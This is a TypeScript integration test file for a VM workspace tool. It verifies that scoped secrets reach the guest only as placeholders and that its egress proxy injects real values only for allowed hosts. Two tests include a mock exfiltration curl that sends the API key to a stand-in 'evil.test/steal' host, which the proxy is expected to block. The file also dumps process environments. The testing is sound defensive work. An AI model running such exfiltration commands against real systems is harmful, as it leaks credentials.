import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { mintCertificateAuthority } from "../src/network/egress-ca.js";
import { resolvePaths } from "../src/paths.js";
import { Pyro } from "../src/sdk/pyro.js";
import { startTlsTestServer } from "./helpers/tls-test-server.js";
import { createReadStream } from "node:fs";

const pyro = new Pyro();
const TIMEOUT = { timeout: 300_000 };
const VALUE = "sk-live-7Hq2-scoped-REAL-value-e4c1";

type Upstream = Awaited<ReturnType<typeof startTlsTestServer>>;

/** Points the egress proxy of VMs created from now on at a loopback upstream (test-only knobs, read from this host process's environment). */
function pointProxyAt(names: string[], upstream: Upstream): void {
  process.env.PYRO_TEST_EGRESS_RESOLVE = names.map((name) => `${name}=127.0.0.1`).join(",");
  process.env.PYRO_TEST_EGRESS_UPSTREAM_CA = upstream.caPath;
}

/** Undoes pointProxyAt and removes what a describe block made: its workspace, upstream and scratch directory. */
async function tearDown(id: string | undefined, upstream: Upstream | undefined, scratch: string | undefined): Promise<void> {
  delete process.env.PYRO_TEST_EGRESS_RESOLVE;
  delete process.env.PYRO_TEST_EGRESS_UPSTREAM_CA;
  if (id) await pyro.deleteWorkspace(id).catch(() => undefined);
  upstream?.server.closeAllConnections();
  upstream?.server.close();
  if (scratch) await rm(scratch, { recursive: true, force: true });
}

/** Whether `file` holds `needle` anywhere, read as a stream: the workspace's sparse disk images are GiBs. */
async function holdsBytes(file: string, needle: Buffer): Promise<boolean> {
  let carry = Buffer.alloc(0);
  for await (const chunk of createReadStream(file, { highWaterMark: 1 << 20 }) as AsyncIterable<Buffer>) {
    const window = Buffer.concat([carry, chunk]);
    if (window.includes(needle)) return true;
    carry = window.subarray(Math.max(0, window.length - needle.length + 1));
  }
  return false;
}

/** Every file under `dir`, recursively (the workspace's private directory holds no links). */
async function filesUnder(dir: string): Promise<string[]> {
  const out: string[] = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const path = join(dir, entry.name);
    if (entry.isDirectory()) out.push(...(await filesUnder(path)));
    else if (entry.isFile()) out.push(path);
  }
  return out;
}

describe("[vm] scoped secrets: placeholders in the guest, values only at the egress proxy", () => {
  let scratch: string;
  let upstream: Upstream;
  let id: string;
  let placeholder: string;

  before(async () => {
    scratch = await mkdtemp(join(tmpdir(), "pyro-scoped-"));
    // A bare repository served over git smart HTTP to clients whose Basic password is the value.
    const seed = join(scratch, "seed");
    const git = (...args: string[]) =>
      execFileSync("git", args, {
        cwd: scratch,
        env: { ...process.env, GIT_AUTHOR_NAME: "t", GIT_AUTHOR_EMAIL: "t@t", GIT_COMMITTER_NAME: "t", GIT_COMMITTER_EMAIL: "t@t" },
      });
    git("init", "-q", "-b", "main", seed);
    await writeFile(join(seed, "hello.txt"), "served over smart HTTP\n");
    git("-C", seed, "add", "hello.txt");
    git("-C", seed, "commit", "-qm", "seed");
    git("clone", "-q", "--bare", seed, join(scratch, "repos", "repo.git"));
    upstream = await startTlsTestServer(scratch, (r) => `got ${r.method} ${r.url} auth=${r.headers.authorization}\n`, {
      root: join(scratch, "repos"),
      password: VALUE,
    });
    pointProxyAt(["api.test", "git.test", "evil.test"], upstream);
    const ws = await pyro.createWorkspace("debian:12", {
      networkPolicy: "egress",
      allowHosts: ["127.0.0.1"],
      secrets: { API_KEY: VALUE, DB_PASSWORD: "injected-pw-31337" },
      secretHosts: { API_KEY: "api.test,git.test" },
    });
    id = ws.workspace_id;
    assert.deepEqual(ws.scoped_secrets, [{ name: "API_KEY", hosts: ["api.test", "git.test"], memory_only: false }]);
    assert.equal(ws.tls_interception, true);
  });
  after(() => tearDown(id, upstream, scratch));

  const url = (host: string, path: string) => `https://${host}:${upstream.port}${path}`;

  it("the guest sees only a placeholder: in exec env, every process's environ, and no tmpfs copy", TIMEOUT, async () => {
    const env = await pyro.execWorkspace(id, ["sh", "-c", 'echo "API_KEY=$API_KEY"; ls /run/pyro-secrets']);
    const match = /^API_KEY=(pyro-secret-[0-9a-f]{40})$/m.exec(env.stdout);
    assert.ok(match, env.stdout);
    placeholder = match[1]!;
    assert.match(env.stdout, /^DB_PASSWORD$/m, "an injected secret is still materialized");
    assert.doesNotMatch(env.stdout, /^API_KEY$/m, "a scoped secret has no file in the guest");
    // The redactor knows the scoped value: had any environ held it, the dump would show [REDACTED].
    const environ = await pyro.execWorkspace(id, ["sh", "-c", "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a '^API_KEY=' | sort -u"]);
    assert.equal(environ.stdout, `API_KEY=${placeholder}\n`);
  });

  it("curl and python3 (verifying the workspace CA, no -k) reach the scoped host, which receives the real value", TIMEOUT, async () => {
    const curl = await pyro.execWorkspace(id, ["sh", "-c", `curl -sS -m 60 -H "Authorization: Bearer $API_KEY" ${url("api.test", "/curl")}`]);
    assert.equal(curl.exit_code, 0, curl.stderr);
    assert.equal(upstream.received.at(-1)?.headers.authorization, `Bearer ${VALUE}`);
    assert.equal(curl.stdout, `got GET /curl auth=Bearer ${placeholder}\n`, "the echoed credential is the placeholder again");
    const py = `import os, urllib.request as u; r = u.Request('${url("api.test", "/py")}', data=('k=' + os.environ['API_KEY']).encode(), headers={'Authorization': 'Bearer ' + os.environ['API_KEY']}); print(u.urlopen(r, timeout=60).read().decode(), end='')`;
    const python = await pyro.execWorkspace(id, ["python3", "-c", py]);
    assert.equal(python.exit_code, 0, python.stderr);
    const got = upstream.received.at(-1)!;
    assert.equal(got.headers.authorization, `Bearer ${VALUE}`);
    assert.equal(got.body, `k=${VALUE}`);
  });

  it("git clones over smart HTTP with the placeholder as its password; the server gets the value", TIMEOUT, async () => {
    const clone = await pyro.execWorkspace(id, [
      "sh",
      "-c",
      `git clone -q "https://git:$API_KEY@git.test:${upstream.port}/git/repo.git" /tmp/repo && cat /tmp/repo/hello.txt`,
    ]);
    assert.equal(clone.exit_code, 0, clone.stderr);
    assert.equal(clone.stdout, "served over smart HTTP\n");
    const gitRequests = upstream.received.filter((r) => r.url.startsWith("/git/") && r.headers.authorization);
    assert.ok(gitRequests.length > 0);
    for (const r of gitRequests) assert.equal(Buffer.from(r.headers.authorization!.slice(6), "base64").toString(), `git:${VALUE}`);
    const mapped = await pyro.execWorkspace(id, ["sh", "-c", 'echo "$TOKEN"'], { secretEnv: ["API_KEY=TOKEN"] });
    assert.equal(mapped.stdout, `${placeholder}\n`, "--secret-env of a scoped secret maps its placeholder");
  });

  it("refuses the placeholder sent to another host, and a different workspace's CA does not verify", TIMEOUT, async () => {
    const before = upstream.received.length;
    const evil = await pyro.execWorkspace(id, ["sh", "-c", `curl -sS -m 60 -w '\\n%{http_code}' -H "X-Exfil: $API_KEY" ${url("evil.test", "/steal")}`]);
    assert.match(evil.stdout, /exfiltration attempt[\s\S]*\n403$/);
    assert.equal(upstream.received.length, before, "the refused request never reached the server");
    await pyro.writeWorkspaceFile(id, "other-ca.pem", (await mintCertificateAuthority("someone-else")).certPem);
    const other = await pyro.execWorkspace(id, ["sh", "-c", `curl -sS -m 60 --cacert /workspace/other-ca.pem ${url("api.test", "/x")} 2>&1; echo "exit=$?"`]);
    assert.match(other.stdout, /SSL certificate problem[\s\S]*exit=60/);
    const logs = await pyro.logsWorkspace(id);
    assert.deepEqual(
      logs.secrets?.map((s) => [s.name, s.scope, s.sent_to["api.test"], s.sent_to["git.test"]! > 0, s.refused_hosts]),
      [["API_KEY", ["api.test", "git.test"], 2, true, { "evil.test": 1 }]],
    );
    const summary = await pyro.summarizeWorkspace(id);
    assert.deepEqual(
      summary.secrets?.map((s) => [s.name, s.refused_requests]),
      [["API_KEY", 1]],
    );
    assert.ok(!JSON.stringify(summary).includes(placeholder.slice(12)), "the summary names secrets, not placeholders");
  });

  it("a fork keeps the placeholder valid: the copy's own proxy sends the value to the scoped hosts only, with an audit of its own", TIMEOUT, async () => {
    const fork = await pyro.forkWorkspace(id);
    const copy = fork.forks[0]!.workspace_id;
    try {
      assert.equal(fork.forks[0]!.vm?.start_mode, "fork_restore");
      assert.equal((await pyro.execWorkspace(copy, ["sh", "-c", 'echo "$API_KEY"'])).stdout, `${placeholder}\n`);
      const curl = await pyro.execWorkspace(copy, ["sh", "-c", `curl -sS -m 60 -H "Authorization: Bearer $API_KEY" ${url("api.test", "/fork")}`]);
      assert.equal(curl.exit_code, 0, curl.stderr);
      assert.equal(upstream.received.at(-1)?.url, "/fork");
      assert.equal(upstream.received.at(-1)?.headers.authorization, `Bearer ${VALUE}`);
      const before = upstream.received.length;
      const evil = await pyro.execWorkspace(copy, ["sh", "-c", `curl -sS -m 60 -w '\\n%{http_code}' -H "X-Exfil: $API_KEY" ${url("evil.test", "/steal")}`]);
      assert.match(evil.stdout, /\n403$/);
      assert.equal(upstream.received.length, before);
      const logs = await pyro.logsWorkspace(copy);
      assert.deepEqual(
        logs.secrets?.map((s) => [s.name, s.sent_to["api.test"], s.refused_hosts]),
        [["API_KEY", 1, { "evil.test": 1 }]],
      );
    } finally {
      await pyro.deleteWorkspace(copy);
    }
  });

  it("no file pyro keeps for the workspace (disk, snapshot memory, logs, audit) holds the value but the proxy's own", TIMEOUT, async () => {
    const runDir = join(resolvePaths().runtimeDir, id);
    const egressLog = await readFile(join(runDir, "egress.log"), "utf8");
    assert.match(egressLog, /exfiltration attempt refused: .*API_KEY.*evil\.test/);
    assert.ok(!egressLog.includes(VALUE));
    await pyro.stopWorkspace(id);
    const workspaceDir = join(resolvePaths().stateDir, "workspaces", id);
    assert.ok((await stat(workspaceDir)).isDirectory(), workspaceDir);
    const needle = Buffer.from(VALUE);
    const holders: string[] = [];
    for (const file of await filesUnder(workspaceDir)) if (await holdsBytes(file, needle)) holders.push(file.slice(workspaceDir.length + 1));
    assert.deepEqual(holders, ["egress-secrets.json"]);
    assert.equal((await stat(join(workspaceDir, "egress-secrets.json"))).mode & 0o777, 0o600);
    assert.equal((await stat(join(workspaceDir, "egress-ca-key.pem"))).mode & 0o777, 0o600);
  });

  it("after a restart the guest trusts the same CA once, and the audit continues", TIMEOUT, async () => {
    await pyro.startWorkspace(id);
    const again = await pyro.execWorkspace(id, [
      "sh",
      "-c",
      `curl -sS -m 60 -H "Authorization: Bearer $API_KEY" ${url("api.test", "/again")} && grep -c 'BEGIN CERTIFICATE' /usr/local/share/ca-certificates/pyro-egress-ca.crt && grep -cF "$(sed -n 2p /usr/local/share/ca-certificates/pyro-egress-ca.crt)" /etc/ssl/certs/ca-certificates.crt`,
    ]);
    assert.equal(again.stdout, `got GET /again auth=Bearer ${placeholder}\n1\n1\n`, again.stderr);
    const logs = await pyro.logsWorkspace(id);
    assert.equal(logs.secrets?.[0]?.sent_to["api.test"], 3);
  });
});

describe("[vm] memory-only scoped secrets", () => {
  let scratch: string;
  let upstream: Upstream;
  let id: string;

  before(async () => {
    scratch = await mkdtemp(join(tmpdir(), "pyro-scoped-mem-"));
    upstream = await startTlsTestServer(scratch, (r) => `got auth=${r.headers.authorization}\n`);
    pointProxyAt(["api.test"], upstream);
    id = (
      await pyro.createWorkspace("debian:12", {
        networkPolicy: "egress",
        allowHosts: ["127.0.0.1"],
        secrets: { API_KEY: VALUE },
        secretHosts: { API_KEY: ["api.test"] },
        secretMemoryOnly: true,
      })
    ).workspace_id;
  });
  after(() => tearDown(id, upstream, scratch));

  it("the value is never written: it works for the VM's life, and after a restart its placeholder is refused", TIMEOUT, async () => {
    const call = `curl -sS -m 60 -w '\\n%{http_code}' -H "Authorization: Bearer $API_KEY" https://api.test:${upstream.port}/m`;
    const first = await pyro.execWorkspace(id, ["sh", "-c", call]);
    assert.match(first.stdout, /got auth=Bearer pyro-secret-[0-9a-f]{40}\n\n200$/);
    assert.equal(upstream.received.at(-1)?.headers.authorization, `Bearer ${VALUE}`);
    // A copy could not have the value (only this VM's proxy holds it): fork says so and makes nothing.
    const count = (await pyro.listWorkspaces()).count;
    await assert.rejects(pyro.forkWorkspace(id), (e: Error & { code?: string }) => e.code === "INVALID_ARGUMENT" && /API_KEY.*memory only/.test(e.message));
    assert.equal((await pyro.listWorkspaces()).count, count);
    await pyro.stopWorkspace(id);
    const workspaceDir = join(resolvePaths().stateDir, "workspaces", id);
    for (const file of await filesUnder(workspaceDir)) assert.ok(!(await holdsBytes(file, Buffer.from(VALUE))), `${file} holds the value`);
    await pyro.startWorkspace(id);
    const seen = upstream.received.length;
    const after = await pyro.execWorkspace(id, ["sh", "-c", call]);
    assert.match(after.stdout, /memory-only secret API_KEY, whose value this proxy does not have[\s\S]*\n403$/);
    assert.equal(upstream.received.length, seen);
  });
});

describe("[vm] --inspect-tls without scoped secrets", () => {
  let scratch: string;
  let upstream: Upstream;
  let id: string;

  before(async () => {
    scratch = await mkdtemp(join(tmpdir(), "pyro-inspect-"));
    upstream = await startTlsTestServer(scratch);
    pointProxyAt(["api.test"], upstream);
    id = (await pyro.createWorkspace("debian:12", { networkPolicy: "egress", allowHosts: ["127.0.0.1"], tlsInterception: true })).workspace_id;
  });
  after(() => tearDown(id, upstream, scratch));

  it("terminates guest TLS with the workspace CA, which the guest's tools trust", TIMEOUT, async () => {
    const status = await pyro.statusWorkspace(id);
    assert.equal(status.tls_interception, true);
    assert.deepEqual(status.scoped_secrets, []);
    const r = await pyro.execWorkspace(id, [
      "sh",
      "-c",
      `curl -sS -m 60 https://api.test:${upstream.port}/i && curl -sS -m 60 -o /dev/null -w '%{certs}' --cacert /usr/local/share/ca-certificates/pyro-egress-ca.crt https://api.test:${upstream.port}/j | grep -c 'pyro egress CA for workspace ${id}'`,
    ]);
    assert.equal(r.exit_code, 0, r.stderr);
    assert.match(r.stdout, /^ok GET \/i\n[1-9]\d*\n$/);
  });
});
